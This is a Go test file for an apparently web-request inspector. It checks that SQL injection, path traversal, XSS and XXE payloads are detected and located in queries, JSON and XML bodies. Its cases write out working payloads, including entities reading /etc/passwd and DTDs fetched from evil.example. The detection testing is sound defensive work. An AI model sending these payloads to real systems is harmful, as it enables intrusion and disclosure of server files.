package inspect_test

import (
	"strings"
	"testing"

	"github.com/vigil-project/vigil/detect"
	"github.com/vigil-project/vigil/detect/inspect"
)

// The kinds carry the contract's attack type names, the same as detect's.
func TestKindNamesAreTheContractsAttackTypes(t *testing.T) {
	want := map[inspect.Kind]detect.AttackType{
		inspect.SQLInjection: detect.AttackSQLInjection, inspect.XSS: detect.AttackXSS,
		inspect.CommandInjection: detect.AttackCommandInjection, inspect.PathTraversal: detect.AttackPathTraversal,
		inspect.SSRF: detect.AttackSSRF, inspect.JNDIInjection: detect.AttackJNDIInjection,
		inspect.NoSQLInjection: detect.AttackNoSQLInjection, inspect.CRLFInjection: detect.AttackCRLFInjection,
		inspect.XXE: detect.AttackXXE, inspect.SchemaViolation: detect.AttackSchemaViolation,
		inspect.MassAssignment: detect.AttackMassAssignment,
	}
	kinds := inspect.Kinds()
	if len(kinds) != len(want) {
		t.Fatalf("Kinds() = %v, want %d kinds", kinds, len(want))
	}
	for _, k := range kinds {
		if got := detect.AttackType(k.String()); got != want[k] {
			t.Errorf("kind %d named %q, want %q", k, got, want[k])
		}
	}
	if inspect.KindNone.String() != "" {
		t.Errorf("KindNone named %q", inspect.KindNone.String())
	}
}

func TestRequestFindsAttackInQueryWithItsKeyPath(t *testing.T) {
	in := inspect.New(inspect.Config{})
	cases := []struct {
		name, query string
		kind        inspect.Kind
		keyPath     string
	}{
		{"sqli union", "page=2&q=%27+UNION+SELECT+password+FROM+users--", inspect.SQLInjection, "query.q"},
		{"sqli tautology", "id=1%27%20or%20%271%27%3D%271", inspect.SQLInjection, "query.id"},
		{"traversal", "file=..%2F..%2Fetc%2Fpasswd", inspect.PathTraversal, "query.file"},
		{"traversal double encoded", "file=..%252F..%252Fetc%252Fpasswd", inspect.PathTraversal, "query.file"},
		{"xss", "name=%3Cscript%3Ealert(1)%3C%2Fscript%3E", inspect.XSS, "query.name"},
		{"benign", "q=red+shoes&page=2&sort=price-asc&email=a.b%40example.com&since=2024-01-02", inspect.KindNone, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			f := in.Request(&inspect.RequestView{Method: "GET", Path: "/search", Query: c.query}, nil)
			if f.Kind != c.kind {
				t.Fatalf("kind %q (%s), want %q", f.Kind, f.Detector, c.kind)
			}
			if f.Kind != inspect.KindNone && (f.KeyPath() != c.keyPath || f.Loc != inspect.LocQuery) {
				t.Errorf("at %s %q, want query %q", f.Loc, f.KeyPath(), c.keyPath)
			}
		})
	}
}

func TestRequestFindsAttackInJSONBodyWithItsKeyPath(t *testing.T) {
	in := inspect.New(inspect.Config{})
	body := `{"customer":{"name":"Ann"},"items":[{"sku":"A1","note":"gift"},{"sku":"B2","note":"' UNION SELECT password FROM users--"}]}`
	f := in.Request(&inspect.RequestView{Method: "POST", Path: "/orders", ContentType: "application/json", Body: []byte(body)}, nil)
	if f.Kind != inspect.SQLInjection || f.KeyPath() != "body.items[].note" || f.Loc != inspect.LocBody {
		t.Fatalf("finding %v at %s %q, want sql_injection at body.items[].note", f.Kind, f.Loc, f.KeyPath())
	}
	if !strings.Contains(f.Excerpt(), "UNION SELECT") {
		t.Errorf("excerpt %q", f.Excerpt())
	}
	benign := `{"customer":{"name":"Ann O'Neil","email":"ann@example.com"},"items":[{"sku":"A1","qty":2,"note":"ring the bell; thanks"}],"total":12.5}`
	if f := in.Request(&inspect.RequestView{Method: "POST", Path: "/orders", ContentType: "application/json", Body: []byte(benign)}, nil); f.Kind != inspect.KindNone {
		t.Errorf("benign order flagged %v (%s) at %q", f.Kind, f.Detector, f.KeyPath())
	}
}

func TestXXEInXMLBodies(t *testing.T) {
	in := inspect.New(inspect.Config{})
	cases := []struct {
		name, ct, body string
		want           inspect.Kind
	}{
		{"external entity", "application/xml", `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`, inspect.XXE},
		{"parameter entity", "text/xml", `<!DOCTYPE d [<!ENTITY % p PUBLIC "x" "http://evil.example/x.dtd"> %p;]><d/>`, inspect.XXE},
		{"external dtd, no type", "", `<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/r.dtd"><r/>`, inspect.XXE},
		{"billion laughs", "application/soap+xml", `<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]><l>&c;</l>`, inspect.XXE},
		{"xxe in a form field", "application/x-www-form-urlencoded", `doc=%3C!DOCTYPE+x+%5B%3C!ENTITY+e+SYSTEM+%22file%3A%2F%2F%2Fetc%2Fhostname%22%3E%5D%3E%3Cx%3E%26e%3B%3C%2Fx%3E`, inspect.XXE},
		{"plain xml", "application/xml", `<?xml version="1.0"?><order><id>7</id><note>two &amp; three</note></order>`, inspect.KindNone},
		{"internal dtd", "application/xml", `<!DOCTYPE note [<!ELEMENT note (#PCDATA)>]><note>hi</note>`, inspect.KindNone},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			f := in.Request(&inspect.RequestView{Method: "POST", Path: "/x", ContentType: c.ct, Body: []byte(c.body)}, nil)
			if f.Kind != c.want {
				t.Errorf("kind %v (%s), want %v", f.Kind, f.Detector, c.want)
			}
		})
	}
}
